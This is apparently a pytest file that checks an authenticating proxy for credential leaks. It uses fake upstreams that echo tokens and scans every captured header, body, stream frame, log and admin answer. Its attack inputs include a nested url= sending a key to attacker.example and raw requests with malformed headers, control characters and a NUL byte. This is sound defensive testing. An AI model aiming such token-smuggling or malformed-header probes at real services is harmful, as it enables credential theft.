"""The everything-captured leak scan (DESIGN "Security invariants" 1, 3, 7).

One sidecar, a misbehaving Plex-like upstream (echoes its token in headers, Set-Cookie,
Location, bodies in every Content-Encoding, Range slices, SSE, websocket frames, nested
``url=``, error pages) and an MCP upstream that echoes its own credential. A broad set
of attacks runs against it; everything is captured — every response header, raw body
(decoded too), SSE chunk and websocket frame, every log record at DEBUG (a root handler,
library loggers included), stderr, the access log file, ``/metrics`` and the admin API's
answers — and then scanned:

- the upstreams' real credentials (and the admin token) appear nowhere;
- no full key appears in any log line, metric or admin answer (the one answer that
  creates or rotates a key excepted), and no response carries a key other than the
  one its own request presented (the Plex scrubber gives a client its own key back
  where the upstream wrote its token);
- no argon2 hash appears anywhere.
"""

from __future__ import annotations

import asyncio
import base64
import gzip
import json
import logging
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote

import aiohttp
import brotli
import pytest
import zstandard
from aiohttp import web
from aiohttp.test_utils import TestServer
from conftest import ADMIN_TOKEN, PLEX_TOKEN, MakeSidecar, Running, base_config

MCP_TOKEN = "mcp-upstream-secret-0123456789abcdef"
ENCODINGS = (
    "identity",
    "gzip",
    "x-gzip",
    "deflate",
    "br",
    "zstd",
    "compress",
    "x-unknown",
    "gzip, br",
    "deflate, gzip",
)


def _xml(tok: str, query: str) -> bytes:
    return (
        f'<?xml version="1.0"?><MediaContainer token="{tok}" query="{query}">'
        f'<Part key="/library/parts/1/file.mp4?X-Plex-Token={tok}"/>'
        f"<Thumb>http://plex.local:32400/photo?X-Plex-Token={tok}</Thumb></MediaContainer>"
    ).encode()


def _encode(body: bytes, codings: str) -> bytes:
    for coding in (c.strip() for c in codings.split(",")):
        if coding in ("gzip", "x-gzip"):
            body = gzip.compress(body)
        elif coding == "deflate":
            body = zlib.compress(body)
        elif coding == "br":
            body = brotli.compress(body)
        elif coding == "zstd":
            body = zstandard.ZstdCompressor().compress(body)
        # identity, compress, x-unknown: the bytes as they are (an upstream may lie)
    return body


def _echo_headers(tok: str) -> dict[str, str]:
    return {
        "X-Echo-Token": tok,
        "X-Plex-Echo": f"t={tok}",
        "Location": f"/library/x?X-Plex-Token={tok}",
        "Content-Location": f"http://plex.local/x?X-Plex-Token={tok}",
        "Link": f"</x?X-Plex-Token={tok}>; rel=next",
        "Refresh": f"0; url=/x?X-Plex-Token={tok}",
        "WWW-Authenticate": f'Bearer realm="{tok}"',
        "Server-Timing": f"tok;desc={tok}",
    }


def misbehaving_plex() -> web.Application:
    """A Plex-like upstream that puts the token it received everywhere it could."""

    async def handler(request: web.Request) -> web.StreamResponse:
        tok = request.headers.get("X-Plex-Token") or request.query.get("X-Plex-Token") or ""
        path = request.path
        body = _xml(tok, request.query_string.replace('"', "&quot;"))
        headers = _echo_headers(tok)
        if path.startswith("/:/websockets/notifications"):
            ws = web.WebSocketResponse()
            await ws.prepare(request)
            await ws.send_str(json.dumps({"NotificationContainer": {"token": tok}}))
            await ws.send_bytes(b"bin:" + tok.encode())
            await ws.send_str(f"X-Plex-Token={tok}")
            await ws.close()
            return ws
        if path.startswith("/:/eventsource/notifications"):
            resp = web.StreamResponse(headers={"Content-Type": "text/event-stream", "X-Echo-Token": tok})
            await resp.prepare(request)
            event = f'event: ping\ndata: {{"token": "{tok}"}}\n\n'.encode()
            for i in range(0, len(event), 7):  # the token straddles writes
                await resp.write(event[i : i + 7])
            await resp.write_eof()
            return resp
        if path.startswith("/echo/enc/"):
            codings = unquote(path.removeprefix("/echo/enc/"))
            return web.Response(
                body=_encode(body, codings),
                headers={"Content-Type": "text/xml", "Content-Encoding": codings, **headers},
            )
        if path == "/echo/bin":  # media: the token inside binary bytes, straddling writes
            resp = web.StreamResponse(headers={"Content-Type": "application/octet-stream"})
            await resp.prepare(request)
            blob = b"\0" * 100 + tok.encode() + b"\0" * 100
            for i in range(0, len(blob), 13):
                await resp.write(blob[i : i + 13])
            await resp.write_eof()
            return resp
        if path == "/echo/json":
            return web.json_response({"token": tok, "url": f"/x?X-Plex-Token={tok}"}, headers=headers)
        if path == "/echo/m3u8":
            text = f"#EXTM3U\n#EXT-X-TARGETDURATION:10\nseg0.ts?X-Plex-Token={tok}\n"
            return web.Response(text=text, content_type="application/vnd.apple.mpegurl")
        if path == "/echo/redirect":
            raise web.HTTPFound(
                f"http://plex.local:32400/web/index.html?X-Plex-Token={tok}", headers=_echo_headers(tok)
            )
        if path == "/echo/error":
            return web.Response(
                status=500,
                text=f"<html>internal error for token {tok}</html>",
                content_type="text/html",
                headers=headers,
            )
        if path == "/echo/401":
            return web.Response(status=401, text=f"bad token {tok}", headers=headers)
        if path == "/echo/badgzip":  # labelled gzip, is not
            return web.Response(body=body, headers={"Content-Type": "text/xml", "Content-Encoding": "gzip"})
        if path == "/echo/range":
            rng = request.http_range
            start, stop = rng.start or 0, rng.stop if rng.stop is not None else len(body)
            if request.headers.get("Range"):
                return web.Response(
                    status=206,
                    body=body[start:stop],
                    headers={"Content-Type": "text/xml", "Content-Range": f"bytes {start}-{stop - 1}/{len(body)}"},
                )
            return web.Response(body=body, headers={"Content-Type": "text/xml", "Accept-Ranges": "bytes"})
        if path == "/echo/split":
            resp = web.StreamResponse(headers={"Content-Type": "application/json"})
            await resp.prepare(request)
            for i in range(len(body)):
                await resp.write(body[i : i + 1])
            await resp.write_eof()
            return resp
        return web.Response(body=body, headers={"Content-Type": "text/xml", **headers})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    return app


def echoing_mcp() -> web.Application:
    """A JSON-RPC server that echoes the Authorization it received in results, errors and events."""

    async def post(request: web.Request) -> web.StreamResponse:
        auth = request.headers.get("Authorization", "")
        msg = await request.json()
        if isinstance(msg, list):
            msg = msg[0]
        method, mid = msg.get("method"), msg.get("id")
        name = (msg.get("params") or {}).get("name")
        if name == "fail":
            return web.Response(status=401, text=f"bad {auth}", headers={"WWW-Authenticate": f'Bearer error="{auth}"'})
        if name == "boom":
            answer: dict[str, Any] = {"jsonrpc": "2.0", "id": mid, "error": {"code": -32000, "message": f"no: {auth}"}}
        elif method == "tools/list":
            answer = {
                "jsonrpc": "2.0",
                "id": mid,
                "result": {
                    "tools": [{"name": "echo", "description": f"uses {auth}", "inputSchema": {"type": "object"}}]
                },
            }
        else:
            answer = {"jsonrpc": "2.0", "id": mid, "result": {"content": [{"type": "text", "text": f"auth={auth}"}]}}
        if mid is None:
            return web.Response(status=202)
        if name == "sse":
            resp = web.StreamResponse(headers={"Content-Type": "text/event-stream", "X-Echo": auth})
            await resp.prepare(request)
            await resp.write(b"event: message\ndata: " + json.dumps(answer).encode() + b"\n\n")
            await resp.write_eof()
            return resp
        return web.json_response(answer, headers={"X-Echo": auth, "Set-Cookie": f"s={auth}"})

    app = web.Application()
    app.router.add_post("/{tail:.*}", post)
    return app


@dataclass
class Capture:
    """Everything a client (or an operator) could see, with where it came from."""

    # (where, text, keys this text may contain): a response may carry the key its request presented
    items: list[tuple[str, bytes, frozenset[str]]] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)  # 5xx answers met on the way (DESIGN invariant 8)

    def add(self, where: str, data: bytes | str, allowed: frozenset[str] = frozenset()) -> None:
        self.items.append((where, data.encode("utf-8", "surrogateescape") if isinstance(data, str) else data, allowed))


class RootCapture(logging.Handler):
    """Every record of every logger, formatted with its traceback, as an operator's handler would."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        try:
            self.lines.append(self.format(record))
        except Exception as e:  # a record that cannot be formatted is itself worth seeing
            self.lines.append(f"unformattable record from {record.name}: {e!r}")


def _decodings(body: bytes, codings: str) -> list[bytes]:
    """The body as sent and every layer of it a client could decode."""
    out = [body]
    for coding in reversed([c.strip().lower() for c in codings.split(",") if c.strip()]):
        try:
            if coding in ("gzip", "x-gzip"):
                body = gzip.decompress(body)
            elif coding == "deflate":
                body = zlib.decompress(body)
            elif coding == "br":
                body = brotli.decompress(body)
            elif coding == "zstd":
                body = zstandard.ZstdDecompressor().decompressobj().decompress(body)
            else:
                continue
        except Exception:
            break
        out.append(body)
    return out


@pytest.fixture
async def root_log() -> AsyncIterator[RootCapture]:
    handler = RootCapture()
    root = logging.getLogger()
    old_level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    try:
        yield handler
    finally:
        root.removeHandler(handler)
        root.setLevel(old_level)


async def _fetch(
    session: aiohttp.ClientSession, cap: Capture, where: str, url: str, key: str | None, **kw: Any
) -> tuple[int, bytes]:
    """One request; its status line, headers and every decodable form of its body captured."""
    allowed = frozenset({key}) if key else frozenset()
    try:
        async with session.request(kw.pop("method", "GET"), url, **kw) as resp:
            raw = await resp.read()
            head = "\n".join(f"{k}: {v}" for k, v in resp.headers.items())
            cap.add(f"{where} [headers]", f"{resp.status} {resp.reason}\n{head}", allowed)
            for i, layer in enumerate(_decodings(raw, resp.headers.get("Content-Encoding", ""))):
                cap.add(f"{where} [body layer {i}]", layer, allowed)
            return resp.status, raw
    except aiohttp.ClientError as e:  # a refused or cut stream is an answer too
        cap.add(f"{where} [client error]", repr(e), allowed)
        return 0, b""


async def _raw(host: str, port: int, data: bytes, cap: Capture, where: str) -> None:
    reader, writer = await asyncio.open_connection(host, port)
    try:
        writer.write(data)
        await writer.drain()
        got = await asyncio.wait_for(reader.read(65536), 5)
        cap.add(where, got)
    except (TimeoutError, ConnectionError) as e:
        cap.add(where, repr(e))
    finally:
        writer.close()


async def _admin(
    run: Running, cap: Capture, method: str, path: str, allowed: frozenset[str] = frozenset(), **kw: Any
) -> Any:
    resp = await run.admin.request(method, path, headers=run.admin_headers(), **kw)
    text = await resp.text()
    cap.add(
        f"admin {method} {path} -> {resp.status}",
        text + "\n" + "\n".join(f"{k}: {v}" for k, v in resp.headers.items()),
        allowed,
    )
    if resp.status >= 500:
        cap.errors.append(f"admin {method} {path} answered {resp.status}")
    try:
        return json.loads(text).get("data")
    except (ValueError, AttributeError):
        return None


async def test_everything_captured_has_no_secret(
    make_sidecar: MakeSidecar,
    aiohttp_server: Any,
    tmp_path: Path,
    root_log: RootCapture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    plex: TestServer = await aiohttp_server(misbehaving_plex())
    mcp: TestServer = await aiohttp_server(echoing_mcp())
    cfg = base_config(
        str(plex.make_url("")).rstrip("/"), tmp_path, log={"access": str(tmp_path / "access.log"), "level": "debug"}
    )
    cfg["upstreams"].append(
        {
            "id": "mcp",
            "kind": "mcp",
            "url": str(mcp.make_url("/mcp")),
            "path_prefix": "/mcp",
            "headers": {"Authorization": "Bearer ${MCP_TOKEN}"},
        }
    )
    cfg["cache"] = {"rules": [{"upstream": "plex", "path": "/echo/cached*", "ttl": "60s"}]}
    run = await make_sidecar(cfg, extra_env={"MCP_TOKEN": MCP_TOKEN})
    cap = Capture()

    # Keys come from the admin API; its creation/rotation answers are the one place a full key may be.
    keys: dict[str, str] = {}
    ids: dict[str, str] = {}
    for name, perms in (
        ("plex", {"upstreams": ["plex"]}),
        ("read", {"upstreams": ["plex"], "paths": ["plex:read"]}),
        ("plex2", {"upstreams": ["plex"]}),
        ("mcp", {"upstreams": ["mcp"]}),
        ("doomed", {"upstreams": ["*"]}),
    ):
        resp = await run.admin.post(
            "/admin/keys", json={"name": name, "permissions": perms}, headers=run.admin_headers()
        )
        assert resp.status == 201
        data = (await resp.json())["data"]
        keys[name], ids[name] = data["key"], data["id"]
    rotated = await _admin(
        run, cap, "POST", f"/admin/keys/{ids['doomed']}/rotate", json={"grace": 0}, allowed=frozenset()
    )
    cap.items.pop()  # the rotation answer shows the new key once, by design
    if rotated and rotated.get("key"):
        keys["rotated"] = rotated["key"]
    await _admin(run, cap, "DELETE", f"/admin/keys/{ids['doomed']}")
    await run.sc.verifier.refresh()

    base = str(run.proxy.make_url("")).rstrip("/")
    k, r, m = keys["plex"], keys["read"], keys["mcp"]
    basic = base64.b64encode(f"user:{k}".encode()).decode()
    async with aiohttp.ClientSession(auto_decompress=False) as s:
        hdr = {"X-Plex-Token": k, "Accept-Encoding": "gzip, deflate, br, zstd"}
        # --- the token echoed in headers, redirects, error pages, every encoding
        for path in (
            "/library/sections",
            "/echo/json",
            "/echo/m3u8",
            "/echo/redirect",
            "/echo/error",
            "/echo/401",
            "/echo/badgzip",
            "/echo/split",
            "/status/sessions",
        ):
            await _fetch(s, cap, f"GET {path}", base + path, k, headers=hdr, allow_redirects=False)
        await _fetch(s, cap, "GET query credential", f"{base}/library/sections?X-Plex-Token={k}", k)
        await _fetch(
            s, cap, "GET basic credential", f"{base}/library/sections", k, headers={"Authorization": f"Basic {basic}"}
        )
        await _fetch(s, cap, "HEAD", base + "/library/sections", k, method="HEAD", headers=hdr)
        for codings in ENCODINGS:
            await _fetch(
                s, cap, f"GET encoding {codings}", base + "/echo/enc/" + quote(codings, safe=""), k, headers=hdr
            )
        # --- Range slices that split the token (joined, they would contain it)
        whole = _xml(PLEX_TOKEN, "")
        cut = whole.index(PLEX_TOKEN.encode()) + len(PLEX_TOKEN) // 2
        parts = []
        for rng in (f"bytes=0-{cut}", f"bytes={cut + 1}-"):
            _, got = await _fetch(s, cap, f"GET range {rng}", base + "/echo/range", k, headers={**hdr, "Range": rng})
            parts.append(got)
        cap.add("range slices joined", b"".join(parts), frozenset({k}))
        # --- nested url= (relative, absolute, to a path the key may not use), odd parameter names, another key
        for n, q in enumerate(
            (
                f"url=/library/metadata/1/thumb?X-Plex-Token={k}",
                f"url=http://attacker.example/x.png?X-Plex-Token={k}",
                f"url=/security/token?X-Plex-Token={k}",
                f"foo={r}",
                f"X-Plex-Token%20={k}",
                f"x-plex-token={k}",
                f"X-Plex-Token={k}&X-Plex-Token={k}",
            )
        ):
            name = q.split("=", 1)[0]
            await _fetch(
                s, cap, f"GET /photo/:/transcode #{n} ({name}=…)", f"{base}/photo/:/transcode?{q}", k, headers=hdr
            )
        await _fetch(s, cap, "GET read key", f"{base}/library/sections?X-Plex-Token={r}", r)
        await _fetch(s, cap, "GET read key, refused path", f"{base}/security/token?X-Plex-Token={r}", r)
        await _fetch(s, cap, "GET key in path", f"{base}/library/{k}", k, headers=hdr)
        await _fetch(
            s, cap, "GET two keys", f"{base}/library/sections?X-Plex-Token={r}", None, headers={"X-Plex-Token": k}
        )
        await _fetch(
            s, cap, "GET revoked key", f"{base}/library/sections?X-Plex-Token={keys['doomed']}", keys["doomed"]
        )
        await _fetch(
            s,
            cap,
            "GET Connection: X-Plex-Token",
            base + "/library/sections",
            k,
            headers={**hdr, "Connection": "X-Plex-Token, Authorization"},
        )
        mistyped = k[:-1] + ("1" if k[-1] == "0" else "0")  # always a different key (1 in 16 ended in 0)
        await _fetch(s, cap, "GET mistyped key", f"{base}/library/sections?X-Plex-Token={mistyped}", None)
        # --- SSE and websockets
        # --- a cached answer: stored once, served to two keys; neither may see the other's key
        for who in ("plex", "plex2", "plex"):
            kk = keys[who]
            await _fetch(s, cap, f"GET cached as {who}", f"{base}/echo/cached?X-Plex-Token={kk}", kk)
        await _fetch(s, cap, "GET media", base + "/echo/bin", k, headers=hdr)
        await _fetch(s, cap, "GET SSE", f"{base}/:/eventsource/notifications?X-Plex-Token={k}", k)
        try:
            async with s.ws_connect(f"{base}/:/websockets/notifications?X-Plex-Token={k}") as ws:
                async for msg in ws:
                    cap.add(
                        "websocket frame",
                        msg.data if isinstance(msg.data, bytes | str) else repr(msg.data),
                        frozenset({k}),
                    )
        except aiohttp.ClientError as e:
            cap.add("websocket refused", repr(e))
        # --- MCP: the upstream's own credential echoed in results, errors, events, headers, a 401
        mh = {
            "Authorization": f"Bearer {m}",
            "Accept": "application/json, text/event-stream",
            "Content-Type": "application/json",
            "MCP-Protocol-Version": "2025-06-18",
        }
        for i, (method, name) in enumerate(
            (
                ("tools/list", None),
                ("tools/call", "echo"),
                ("tools/call", "boom"),
                ("tools/call", "fail"),
                ("tools/call", "sse"),
            )
        ):
            params = {"name": name, "arguments": {}} if name else {}
            body = {"jsonrpc": "2.0", "id": i + 1, "method": method, "params": params}
            await _fetch(s, cap, f"MCP {method} {name}", base + "/mcp", m, method="POST", json=body, headers=mh)
        # --- framing an aiohttp error message could echo: a malformed header line carrying the key
        host, port = run.proxy.host, run.proxy.port
        assert isinstance(port, int)
        await _raw(
            host,
            port,
            f"GET /library/sections HTTP/1.1\r\nHost: h\r\nX-Plex-Token {k}\r\n\r\n".encode(),
            cap,
            "raw: header line without colon",
        )
        await _raw(
            host,
            port,
            f"GET /library/sections HTTP/1.1\r\nHost: h\r\nX-Plex-Token: {k}\x01\r\n\r\n".encode(),
            cap,
            "raw: control character after the key",
        )
        await _raw(
            host,
            port,
            f"GET /?X-Plex-Token={k} HTTP/1.1\r\nHost: h\r\nBad\x00: x\r\n\r\n".encode(),
            cap,
            "raw: NUL in a header name",
        )
    for i, line in enumerate(cap.items):  # raw answers may echo the client's own request line: that is its own key
        if line[0].startswith("raw:"):
            cap.items[i] = (line[0], line[1], frozenset({k}))

    # --- what an operator sees
    await asyncio.sleep(0.1)  # last access-log lines and usage flushes
    for kid in ids.values():
        await _admin(run, cap, "GET", f"/admin/keys/{kid}")
        await _admin(run, cap, "GET", f"/admin/keys/{kid}/usage")
    await _admin(run, cap, "GET", "/admin/keys")
    await _admin(run, cap, "GET", "/admin/audit")
    await _admin(run, cap, "GET", "/admin/audit?limit=99999999999999999999")
    await _admin(run, cap, "PATCH", f"/admin/keys/{ids['read']}", json={"description": "patched"})
    metrics = await run.admin.get("/metrics")
    cap.add("/metrics", await metrics.text())
    await asyncio.sleep(0.05)
    log_file = tmp_path / "access.log"
    cap.add("access log file", log_file.read_text() if log_file.exists() else "")
    for i, line in enumerate(root_log.lines):
        cap.add(f"log record {i}", line)
    out, err = capfd.readouterr()
    cap.add("stdout", out)
    cap.add("stderr", err)

    # --- the scan
    secrets = {"the Plex token": PLEX_TOKEN, "the MCP upstream token": MCP_TOKEN, "the admin token": ADMIN_TOKEN}
    leaks: list[str] = []
    for where, data, allowed in cap.items:
        forms = (data, unquote(data.decode("utf-8", "replace")).encode())
        for what, secret in secrets.items():
            if any(secret.encode() in f for f in forms):
                leaks.append(f"{what} in {where}")
        for name, key in keys.items():
            if key not in allowed and any(key.encode() in f for f in forms):
                leaks.append(f"full key {name!r} in {where}")
        if b"$argon2" in data:
            leaks.append(f"an argon2 hash in {where}")
    assert len(cap.items) > 100 and len(root_log.lines) > 0, "the scan saw too little to mean anything"
    seen = {where for where, _, _ in cap.items}
    assert "websocket frame" in seen, "the websocket channel was never exercised"
    hits = [d for w, d, _ in cap.items if w.startswith("GET cached as") and w.endswith("[headers]")]
    assert any(b"X-Cache-Status: HIT" in d for d in hits), "the cached channel was never exercised"
    assert any(w.startswith("MCP tools/call echo [body") for w in seen), "the MCP channel was never exercised"
    problems = sorted(set(leaks)) + cap.errors
    assert not problems, f"{len(leaks)} leak(s) across {len(cap.items)} captured items:\n" + "\n".join(problems)
